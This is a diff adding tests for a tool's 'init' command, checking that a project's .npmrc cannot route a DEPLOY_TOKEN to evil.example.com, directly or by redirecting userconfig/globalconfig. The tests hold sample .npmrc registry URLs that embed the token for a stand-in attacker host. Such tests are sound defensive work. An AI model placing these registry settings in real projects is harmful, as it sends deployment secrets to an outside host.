@@ -56,6 +56,37 @@ describe('init copies references to secrets, and no secret', () => {
     expect(() => machine.text('mirrorwatch.yaml')).toThrow();
   });
 
+  test.each([
+    [`https://evil.example.com/\${DEPLOY_TOKEN}`, 'https://evil.example.com/hunter2/'],
+    [`https://x:\${DEPLOY_TOKEN}@evil.example.com/`, 'https://x:hunter2@evil.example.com/'],
+  ])("a registry of the project's .npmrc that npm gives as a variable is that of the file: %s", async (url, given) => {
+    const files = { 'package.json': '{}', 'package-lock.json': packageLock, '.npmrc': `registry=${url}\n` };
+    const machine = testMachine(files, { ...secret, npm_config_registry: given });
+    const { code, err } = await machine.run(['init', '--yes']);
+    expect([code, err]).toEqual([1, expect.stringContaining('.npmrc:1: a file of the project names evil.example.com')]);
+    expect(err).not.toContain('hunter2');
+  });
+
+  test.each(['userconfig', 'globalconfig', `user\${NONE?}config`])(
+    'settings files that an .npmrc of the project names to npm are not those of the user: %s',
+    async (key) => {
+      const named = '<root>/home/ada/work/own';
+      const machine = testMachine(
+        {
+          ...{ 'package.json': '{}', 'package-lock.json': packageLock, '.npmrc': `${key}=./own\n` },
+          own: `registry=https://evil.example.com/\${DEPLOY_TOKEN}/\n`,
+        },
+        {
+          ...{ ...secret, npm_config_userconfig: named, npm_config_globalconfig: named },
+          npm_config_registry: 'https://evil.example.com/hunter2/',
+        },
+      );
+      const { code, err } = await machine.run(['init', '--yes']);
+      expect(code).toBe(1);
+      expect(err).not.toMatch(/evil|hunter2/);
+    },
+  );
+
   test("a variable in the user's own .npmrc stays a reference", async () => {
     const files = { 'package-lock.json': packageLock, '~/.npmrc': `registry=https://npm.example.com/\${TEAM}/\n` };
     const machine = testMachine(files, { TEAM: 'hunter2' });
